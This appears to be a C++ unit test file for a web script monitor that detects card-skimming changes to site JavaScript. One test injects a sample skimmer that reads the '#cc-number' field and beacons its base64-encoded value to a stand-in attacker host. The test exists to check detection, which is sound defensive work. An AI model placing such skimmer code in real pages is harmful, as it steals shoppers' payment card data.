#include "agent/script/script_monitor.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "proto/validation/finding.h"
#include "spdlog/sinks/ostream_sink.h"
#include "spdlog/spdlog.h"
#include "tests/agent/script/support/monitor_fixture.h"

namespace skimwatch::script {
namespace {

using ::skimwatch::testing::MonitorFixture;
using ::skimwatch::v1::ScriptChange;
using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Pair;
using ::testing::UnorderedElementsAre;

class ScriptMonitorTest : public MonitorFixture {
 protected:
  ScriptMonitorTest() { spdlog::set_level(spdlog::level::off); }
};

TEST_F(ScriptMonitorTest, FirstLookProposesWhatItFindsAndApprovesNothing) {
  root_.Write("js/app.js", "var a;");
  root_.Write("index.html", "<body onload='go()'><script>x()</script><script src=a.js></script>");
  root_.Write("style.css", "a{}");
  Start();
  EXPECT_THAT(sink_.Said(),
              UnorderedElementsAre("PROPOSED js/app.js", "PROPOSED index.html#inline-1",
                                   "PROPOSED index.html#inline-2"));
  for (const auto& change : sink_.changes()) {
    EXPECT_EQ(change.site, "shop");
    EXPECT_EQ(change.severity, v1::SEVERITY_INFO);
    EXPECT_FALSE(change.change.has_previous());
  }
  EXPECT_EQ(sink_.Last("js/app.js").change.current().SerializeAsString(),
            VersionOf("var a;").SerializeAsString());
  EXPECT_EQ(sink_.Last("index.html#inline-2").change.page(), "index.html");
  Await([](const Stats& stats) {
    return stats.files == 2 && stats.scripts == 3 && stats.unapproved_scripts == 3;
  });
}

TEST_F(ScriptMonitorTest, ReportsAddedChangedAndRemoved) {
  root_.Write("a.js", "a");
  Start();
  root_.Write("b.js", "b");
  ASSERT_TRUE(sink_.WaitForSize(2));
  root_.Write("a.js", "a2");
  ASSERT_TRUE(sink_.WaitForSize(3));
  root_.Remove("b.js");
  ASSERT_TRUE(sink_.WaitForSize(4));
  EXPECT_THAT(sink_.Said(1), ElementsAre("ADDED b.js", "CHANGED a.js", "REMOVED b.js"));
  const ScriptChange changed = sink_.Last("a.js").change;
  EXPECT_EQ(changed.previous().sha256(), Sha256("a"));
  EXPECT_EQ(changed.current().sha256(), Sha256("a2"));
  EXPECT_THAT(changed.diff(), HasSubstr("-a\n+a2\n"));
  EXPECT_EQ(sink_.Last("b.js").change.previous().sha256(), Sha256("b"));
  EXPECT_EQ(sink_.Last("b.js").severity, v1::SEVERITY_LOW);
}

TEST_F(ScriptMonitorTest, SaysWithinASecondThatAChatScriptBecameASkimmer) {
  options_.settle = absl::Milliseconds(100);
  const std::string chat = "chat.open=function(){fetch('https://chat.example/hello')};";
  root_.Write("chat.js", chat);
  Start();
  ApproveAll();
  const absl::Time begin = absl::Now();
  root_.Replace("chat.js",
                absl::StrCat(chat,
                             "document.querySelector('#cc-number').addEventListener('change',"
                             "function(){new Image().src='https://x.evil.example/?'+"
                             "btoa(this.value)});"));
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_LT(absl::Now() - begin, absl::Seconds(1));
  const auto change = sink_.Last("chat.js");
  EXPECT_EQ(change.severity, v1::SEVERITY_CRITICAL);
  std::set<std::string> gained;
  for (const auto& fact : change.change.gained_facts()) gained.insert(fact.name());
  for (const char* name : {"card_field_name", "network_sink", "exfil_encoding", "external_host",
                           "listener_on_input"}) {
    EXPECT_THAT(gained, Contains(name));
  }
  EXPECT_THAT(change.change.diff(), HasSubstr("x.evil.example"));
}

TEST_F(ScriptMonitorTest, AnAddedScriptThatUsesTheRootsHostsIsNoAlarm) {
  root_.Write("app.js", "fetch('https://api.shop.example/session');");
  Start();
  const std::string cart = "document.querySelector('#qty').addEventListener('change',function(){";
  root_.Write("cart.js", absl::StrCat(cart, "fetch('https://api.shop.example/cart')});"));
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_EQ(sink_.Last("cart.js").severity, v1::SEVERITY_MEDIUM);
  root_.Write("cart2.js", absl::StrCat(cart, "fetch('https://api.evil.example/cart')});"));
  ASSERT_TRUE(sink_.WaitForSize(3));
  EXPECT_EQ(sink_.Last("cart2.js").severity, v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptMonitorTest, ApprovedBytesAreRestoredAndOtherBytesCompareWithTheApproved) {
  root_.Write("a.js", "good");
  Start();
  ApproveAll();
  root_.Write("a.js", "bad");
  ASSERT_TRUE(sink_.WaitForSize(2));
  Await([](const Stats& stats) { return stats.unapproved_scripts == 1; });
  root_.Write("a.js", "worse");
  ASSERT_TRUE(sink_.WaitForSize(3));
  EXPECT_EQ(sink_.Last("a.js").change.previous().sha256(), Sha256("good"));
  EXPECT_THAT(sink_.Last("a.js").change.diff(), HasSubstr("-good\n+worse\n"));
  root_.Write("a.js", "good");
  ASSERT_TRUE(sink_.WaitForSize(4));
  EXPECT_THAT(sink_.Said(1), ElementsAre("CHANGED a.js", "CHANGED a.js", "RESTORED a.js"));
  EXPECT_EQ(sink_.Last("a.js").severity, v1::SEVERITY_INFO);
  Await([](const Stats& stats) { return stats.unapproved_scripts == 0; });
}

TEST_F(ScriptMonitorTest, VersionApprovedAheadOfItsDeploymentIsNoAlarm) {
  root_.Write("a.js", "v1");
  Start();
  Approve({{"a.js", "v1"}, {"a.js", "v2"}, {"new.js", "n"}});
  root_.Write("a.js", "v2");
  root_.Write("new.js", "n");
  ASSERT_TRUE(sink_.WaitForSize(3));
  EXPECT_THAT(sink_.Said(1), UnorderedElementsAre("RESTORED a.js", "RESTORED new.js"));
}

TEST_F(ScriptMonitorTest, ApprovalsMayComeBeforeTheFirstLookAndBeTakenBack) {
  root_.Write("a.js", "a");
  Open();
  Approve({{"a.js", "a"}});
  monitor_->Start();
  AwaitLook();
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED a.js"));
  Await([](const Stats& stats) { return stats.unapproved_scripts == 0; });
  Approve({});
  Await([](const Stats& stats) { return stats.unapproved_scripts == 1; });
  EXPECT_EQ(sink_.size(), 1u);
  // What was revoked is no way back.
  root_.Write("a.js", "b");
  ASSERT_TRUE(sink_.WaitForSize(2));
  root_.Write("a.js", "a");
  ASSERT_TRUE(sink_.WaitForSize(3));
  EXPECT_THAT(sink_.Said(1), ElementsAre("CHANGED a.js", "CHANGED a.js"));
}

TEST_F(ScriptMonitorTest, RemovedAndBackAgain) {
  root_.Write("a.js", "a");
  root_.Write("never.js", "n");
  Start();
  Approve({{"a.js", "a"}});
  Await([](const Stats& stats) { return stats.unapproved_scripts == 1; });
  root_.Remove("a.js");
  root_.Remove("never.js");
  ASSERT_TRUE(sink_.WaitForSize(4));
  root_.Write("a.js", "a");
  root_.Write("never.js", "n");
  ASSERT_TRUE(sink_.WaitForSize(6));
  EXPECT_THAT(sink_.Said(4), UnorderedElementsAre("RESTORED a.js", "ADDED never.js"));
  root_.Remove("a.js");
  ASSERT_TRUE(sink_.WaitForSize(7));
  root_.Write("a.js", "other");
  ASSERT_TRUE(sink_.WaitForSize(8));
  EXPECT_EQ(sink_.Said().back(), "ADDED a.js");
  EXPECT_EQ(sink_.Last("a.js").change.previous().sha256(), Sha256("a"));
}

TEST_F(ScriptMonitorTest, InsertedInlineScriptIsOneAddition) {
  root_.Write("p.html", "<script>a()</script><script>b()</script><script>c()</script>");
  Start();
  root_.Replace(
      "p.html",
      "<script>a()</script><script>evil()</script><script>b()</script><script>c()</script>");
  ASSERT_TRUE(sink_.WaitForSize(4));
  AwaitQuiet();
  EXPECT_THAT(sink_.Said(3), ElementsAre("ADDED p.html#inline-4"));
  EXPECT_EQ(sink_.Last("p.html#inline-4").change.current().sha256(), Sha256("evil()"));
  // The others keep their names when it goes, and when one of them changes.
  root_.Replace("p.html", "<script>a()</script><script>b(2)</script><script>c()</script>");
  ASSERT_TRUE(sink_.WaitForSize(6));
  AwaitQuiet();
  EXPECT_THAT(sink_.Said(4), ElementsAre("REMOVED p.html#inline-4", "CHANGED p.html#inline-2"));
}

TEST_F(ScriptMonitorTest, NumbersOfTheGoneAreNotGivenAgain) {
  root_.Write("p.html", "<script>a()</script><script>b()</script>");
  Start();
  root_.Replace("p.html", "<script>a()</script>");
  ASSERT_TRUE(sink_.WaitForSize(3));
  root_.Replace("p.html", "<script>a()</script><script>zzz()</script>");
  ASSERT_TRUE(sink_.WaitForSize(4));
  EXPECT_EQ(sink_.Said().back(), "ADDED p.html#inline-3");
}

TEST_F(ScriptMonitorTest, InlineScriptGetsTheNumberItIsApprovedUnder) {
  root_.Write("p.html", "<script>a()</script><script>b()</script>");
  Open();
  // Another agent saw `b()` come later.
  Approve({{"p.html#inline-1", "a()"}, {"p.html#inline-7", "b()"}});
  monitor_->Start();
  AwaitLook();
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED p.html#inline-1", "PROPOSED p.html#inline-7"));
  Await([](const Stats& stats) { return stats.unapproved_scripts == 0; });
}

TEST_F(ScriptMonitorTest, EqualInlineScriptsAreOne) {
  root_.Write("p.html", "<a onclick='go()'>1</a><a onclick='go()'>2</a><script>x()</script>");
  Start();
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED p.html#inline-1", "PROPOSED p.html#inline-3"));
  root_.Replace("p.html",
                "<a onclick='go()'>1</a><a onclick='go()'>2</a><a onclick='go()'>3</a>"
                "<script>x()</script>");
  AwaitQuiet();
  EXPECT_EQ(sink_.size(), 2u);
}

TEST_F(ScriptMonitorTest, PagesGoWithTheirScripts) {
  root_.Write("p.html", "<script>a()</script><script>b()</script>");
  Start();
  root_.Remove("p.html");
  ASSERT_TRUE(sink_.WaitForSize(4));
  EXPECT_THAT(sink_.Said(2), ElementsAre("REMOVED p.html#inline-1", "REMOVED p.html#inline-2"));
}

TEST_F(ScriptMonitorTest, PassesEachTextOnceForTheCardScan) {
  root_.Write("a.js", "text of a");
  root_.Write("p.html", "<p>no script</p>");
  Start();
  EXPECT_THAT(sink_.texts(), UnorderedElementsAre(Pair("shop:a.js", "text of a"),
                                                  Pair("shop:p.html", "<p>no script</p>")));
  root_.Write("p.html", "<p>4</p>");
  Await([&](const Stats&) { return sink_.texts().size() == 3; });
}

TEST_F(ScriptMonitorTest, NewFoldersAreWatchedWithWhatIsInThemAlready) {
  Start();
  // Made elsewhere and moved in, so that everything is there before the watch.
  testing::Tree elsewhere;
  elsewhere.Write("x/deep/er/a.js", "a");
  std::filesystem::rename(elsewhere.At("x"), root_.At("x"));
  ASSERT_TRUE(sink_.WaitForSize(1));
  root_.Write("x/deep/er/b.js", "b");
  ASSERT_TRUE(sink_.WaitForSize(2));
  root_.Write("y/1/2/3/c.js", "c");
  ASSERT_TRUE(sink_.WaitForSize(3));
  EXPECT_THAT(sink_.Said(),
              ElementsAre("ADDED x/deep/er/a.js", "ADDED x/deep/er/b.js", "ADDED y/1/2/3/c.js"));
  EXPECT_EQ(monitor_->GetStats().rescans, 1u);
}

TEST_F(ScriptMonitorTest, FoldersThatMoveTakeTheirScriptsAlong) {
  root_.Write("a/x/s.js", "s");
  root_.Write("a-b/t.js", "t");
  Start();
  root_.Move("a", "b");
  ASSERT_TRUE(sink_.WaitForSize(4));
  EXPECT_THAT(sink_.Said(2), UnorderedElementsAre("REMOVED a/x/s.js", "ADDED b/x/s.js"));
  root_.Write("b/x/s.js", "s2");
  ASSERT_TRUE(sink_.WaitForSize(5));
  EXPECT_EQ(sink_.Said().back(), "CHANGED b/x/s.js");
  testing::Tree elsewhere;
  std::filesystem::rename(root_.At("b"), elsewhere.At("b"));
  ASSERT_TRUE(sink_.WaitForSize(6));
  EXPECT_EQ(sink_.Said().back(), "REMOVED b/x/s.js");
  // It is no longer ours.
  elsewhere.Write("b/x/s.js", "s3");
  AwaitQuiet();
  EXPECT_EQ(sink_.size(), 6u);
}

TEST_F(ScriptMonitorTest, HalfWrittenFileIsNotReported) {
  options_.settle = absl::Milliseconds(50);
  root_.Write("a.js", "whole");
  Start();
  {
    std::ofstream file(root_.At("a.js"));
    file << "first half," << std::flush;
    // Longer than the settle time, shorter than the wait for a writer.
    absl::SleepFor(absl::Milliseconds(300));
    EXPECT_EQ(sink_.size(), 1u);
    file << "second half";
  }
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_EQ(sink_.Last("a.js").change.current().sha256(), Sha256("first half,second half"));
}

TEST_F(ScriptMonitorTest, WriterThatNeverClosesIsReadInTheEnd) {
  options_.settle = absl::Milliseconds(5);
  root_.Write("a.js", "whole");
  Start();
  std::ofstream file(root_.At("a.js"));
  file << "open for ever" << std::flush;
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_EQ(sink_.Last("a.js").change.current().sha256(), Sha256("open for ever"));
}

TEST_F(ScriptMonitorTest, FilesAsLargeAsTheirLimitAreHashedOnly) {
  root().set_file_bytes_max(1024);
  root_.Write("a.js", absl::StrCat("eval(x)", std::string(2000, ' ')));
  root_.Write("p.html", absl::StrCat("<script>x()</script>", std::string(2000, ' ')));
  Start();
  EXPECT_THAT(sink_.Said(), UnorderedElementsAre("PROPOSED a.js", "PROPOSED p.html"));
  EXPECT_EQ(sink_.Last("a.js").change.facts_size(), 0);
  EXPECT_THAT(sink_.texts(), IsEmpty());
  EXPECT_EQ(monitor_->GetStats().files_too_large, 2u);
  // A page that shrinks again is its inline scripts.
  root_.Replace("p.html", "<script>x()</script>");
  ASSERT_TRUE(sink_.WaitForSize(4));
  EXPECT_THAT(sink_.Said(2), ElementsAre("REMOVED p.html", "ADDED p.html#inline-1"));
  Await([](const Stats& stats) { return stats.files_too_large == 1; });
}

TEST_F(ScriptMonitorTest, FileLinksAreFollowedInsideTheRoot) {
  root_.Write("v1.txt", "one");
  root_.Write("v2.txt", "two");
  root_.Link("v1.txt", "app.js");
  Start();
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED app.js"));
  // Switched, as deployments do.
  root_.Link("v2.txt", "app.js.new");
  root_.Move("app.js.new", "app.js");
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_EQ(sink_.Last("app.js").change.current().sha256(), Sha256("two"));
  // The file behind it.
  root_.Write("v2.txt", "two and a half");
  ASSERT_TRUE(sink_.WaitForSize(3));
  EXPECT_EQ(sink_.Last("app.js").change.current().sha256(), Sha256("two and a half"));
  root_.Remove("v2.txt");
  ASSERT_TRUE(sink_.WaitForSize(4));
  EXPECT_EQ(sink_.Said().back(), "REMOVED app.js");
  // A link that leads nowhere is told of what comes there.
  root_.Write("v2.txt", "two again");
  ASSERT_TRUE(sink_.WaitForSize(5));
  EXPECT_EQ(sink_.Said().back(), "ADDED app.js");
}

TEST_F(ScriptMonitorTest, LinksOutAreHashedOnlyAndFolderLinksNotEntered) {
  testing::Tree elsewhere;
  elsewhere.Write("secret.txt", "password");
  elsewhere.Write("lib/x.js", "x");
  root_.Link(elsewhere.At("secret.txt"), "a.js");
  root_.Link(elsewhere.At("lib"), "lib");
  root_.Link(".", "self");
  Start();
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED a.js"));
  EXPECT_EQ(sink_.Last("a.js").change.current().sha256(), Sha256("password"));
  EXPECT_THAT(sink_.texts(), IsEmpty());
  EXPECT_EQ(monitor_->GetStats().links_outside, 1u);
  EXPECT_EQ(monitor_->GetStats().folder_links, 2u);
}

TEST_F(ScriptMonitorTest, WhatIsNoFileIsAnErrorAndHoldsUpNothing) {
  ASSERT_EQ(mkfifo(root_.At("a.js").c_str(), 0600), 0);
  root_.Link("loop.js", "loop.js");
  root_.Write("b.js", "b");
  Start();
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED b.js"));
  EXPECT_EQ(monitor_->GetStats().errors, 1u);
  EXPECT_THAT(monitor_->GetStats().last_error, HasSubstr("a.js: is no regular file"));
}

TEST_F(ScriptMonitorTest, LogsEachErrorOnceWithItsPathAndCause) {
  const std::shared_ptr<spdlog::logger> before = spdlog::default_logger();
  std::ostringstream text;
  auto logger = std::make_shared<spdlog::logger>(
      "test", std::make_shared<spdlog::sinks::ostream_sink_mt>(text));
  logger->set_pattern("%l %v");
  spdlog::set_default_logger(logger);
  ASSERT_EQ(mkfifo(root_.At("ff.js").c_str(), 0600), 0);
  options_.roots[0].set_rescan_interval_seconds(1);
  Start();
  const absl::Time first = monitor_->GetStats().last_full_look;
  // Found anew by each look.
  Await([&](const Stats& stats) { return stats.last_full_look > first; });
  monitor_->Stop();
  spdlog::set_default_logger(before);
  EXPECT_THAT(text.str(),
              HasSubstr("warning web root " + root_.path() + ": ff.js: is no regular "));
  EXPECT_EQ(text.str().find("ff.js"), text.str().rfind("ff.js"));
}

TEST_F(ScriptMonitorTest, ScriptThatBecomesAFifoIsGone) {
  root_.Write("a.js", "a");
  Start();
  root_.Remove("a.js");
  ASSERT_EQ(mkfifo(root_.At("a.js").c_str(), 0600), 0);
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_EQ(sink_.Said().back(), "REMOVED a.js");
}

// Root reads everything, so while this lives the process is `nobody`, who owns the trees.
class AsNobody {
 public:
  explicit AsNobody(std::initializer_list<std::string> trees) {
    if (geteuid() != 0) return;
    for (const std::string& tree : trees) {
      EXPECT_EQ(chown(tree.c_str(), kNobody, kNobody), 0);
      for (const auto& entry : std::filesystem::recursive_directory_iterator(tree)) {
        EXPECT_EQ(chown(entry.path().c_str(), kNobody, kNobody), 0);
      }
    }
    EXPECT_EQ(seteuid(kNobody), 0);
    switched_ = true;
  }
  ~AsNobody() {
    if (switched_) {
      EXPECT_EQ(seteuid(0), 0);
    }
  }

 private:
  static constexpr uid_t kNobody = 65534;
  bool switched_ = false;
};

TEST_F(ScriptMonitorTest, UnreadableIsNotRemoved) {
  root_.Write("a.js", "a");
  root_.Write("d/b.js", "b");
  const AsNobody nobody({root_.path(), state_.path()});
  Start();
  std::filesystem::permissions(root_.At("a.js"), std::filesystem::perms::none);
  std::filesystem::permissions(root_.At("d"), std::filesystem::perms::none);
  Await([](const Stats& stats) { return stats.errors >= 2; });
  EXPECT_EQ(sink_.size(), 2u);
  std::filesystem::permissions(root_.At("d"), std::filesystem::perms::owner_all);
  std::filesystem::permissions(root_.At("a.js"), std::filesystem::perms::owner_all);
  Await([](const Stats& stats) { return stats.errors == 0; });
  EXPECT_EQ(sink_.size(), 2u);
  monitor_.reset();
}

TEST_F(ScriptMonitorTest, RootThatIsALinkIsFollowedWhenItIsSwitched) {
  testing::Tree releases;
  releases.Write("1/app.js", "one");
  releases.Write("2/app.js", "two");
  releases.Link("1", "current");
  root().set_path(releases.At("current"));
  Start();
  releases.Link("2", "next");
  releases.Move("next", "current");
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED app.js", "CHANGED app.js"));
  releases.Write("2/app.js", "two and a half");
  ASSERT_TRUE(sink_.WaitForSize(3));
}

TEST_F(ScriptMonitorTest, RootThatIsAwayIsAnErrorAndNotTheEndOfItsScripts) {
  testing::Tree disk;
  disk.Write("www/a.js", "a");
  root().set_path(disk.At("www"));
  Start();
  disk.Move("www", "away");
  Await([](const Stats& stats) { return stats.errors == 1; });
  EXPECT_EQ(sink_.size(), 1u);
  disk.Write("away/a.js", "changed meanwhile");
  disk.Move("away", "www");
  ASSERT_TRUE(sink_.WaitForSize(2));
  EXPECT_EQ(sink_.Said().back(), "CHANGED a.js");
  Await([](const Stats& stats) { return stats.errors == 0; });
}

TEST_F(ScriptMonitorTest, RootsOfOneSiteAreToldApart) {
  testing::Tree assets;
  root_.Write("app.js", "one");
  assets.Write("app.js", "two");
  assets.Write("p.html", "<script>x()</script>");
  config::v1::WebRoot second = root();
  second.set_path(assets.path() + "/");
  options_.roots.push_back(second);
  second.set_site("blog");
  second.set_path(assets.path());
  options_.roots.push_back(second);
  Open();
  monitor_->Start();
  ASSERT_TRUE(sink_.WaitForSize(5));
  AwaitQuiet();
  EXPECT_THAT(sink_.Said(), UnorderedElementsAre(
                                "PROPOSED app.js", absl::StrCat("PROPOSED ", assets.At("app.js")),
                                absl::StrCat("PROPOSED ", assets.At("p.html#inline-1")),
                                "PROPOSED app.js", "PROPOSED p.html#inline-1"));
  Await([](const Stats& stats) { return stats.scripts == 5; });
}

TEST_F(ScriptMonitorTest, TemplatesOfAServerArePages) {
  root_.Write("form.phtml",
              "<?php if ($x > 1): ?><script>pay('<?= $key ?>')</script><?php endif ?>");
  Start();
  EXPECT_THAT(sink_.Said(), ElementsAre("PROPOSED form.phtml#inline-1"));
}

TEST_F(ScriptMonitorTest, OpenNamesARootThatIsNone) {
  root().set_path(root_.At("none"));
  const auto monitor = ScriptMonitor::Open(options_, sink_);
  EXPECT_TRUE(absl::IsNotFound(monitor.status()));
  EXPECT_THAT(std::string(monitor.status().message()), HasSubstr(root_.At("none")));
}

TEST_F(ScriptMonitorTest, EveryChangeIsAFindingThatPassesItsCheck) {
  const std::string hostile = absl::StrCat(
      "fetch('https://a.example/?\x1b\xff"
      "4111111111111111');\n",
      "document.querySelector('[name=\"4111 1111 1111 1111\"]');\n");
  root_.Write("a\n\xff#.js", "x");
  root_.Write("4111111111111111.js", hostile);
  Start();
  root_.Write("a\n\xff#.js", hostile);
  ASSERT_TRUE(sink_.WaitForSize(3));
  for (const auto& change : sink_.changes()) {
    v1::Finding finding;
    finding.set_site(change.site);
    finding.set_severity(change.severity);
    finding.set_confidence(v1::CONFIDENCE_HIGH);
    finding.set_rule("script.changed");
    finding.mutable_first_seen()->set_seconds(1);
    finding.mutable_last_seen()->set_seconds(1);
    finding.set_count(1);
    finding.set_sampling_probability(1);
    *finding.mutable_script_change() = change.change;
    EXPECT_TRUE(validation::ValidateFinding(finding).ok()) << validation::ValidateFinding(finding);
  }
}

TEST_F(ScriptMonitorTest, StopsInTheMiddleOfAFirstLook) {
  for (int i = 0; i < 300; ++i) root_.Write(absl::StrCat("f", i, ".js"), absl::StrCat(i));
  Open();
  monitor_->Start();
  monitor_->Stop();
  monitor_->Stop();
  const size_t before = sink_.size();
  monitor_.reset();
  Start();
  EXPECT_EQ(sink_.size(), 300u) << before << " before the stop";
}

}  // namespace
}  // namespace skimwatch::script
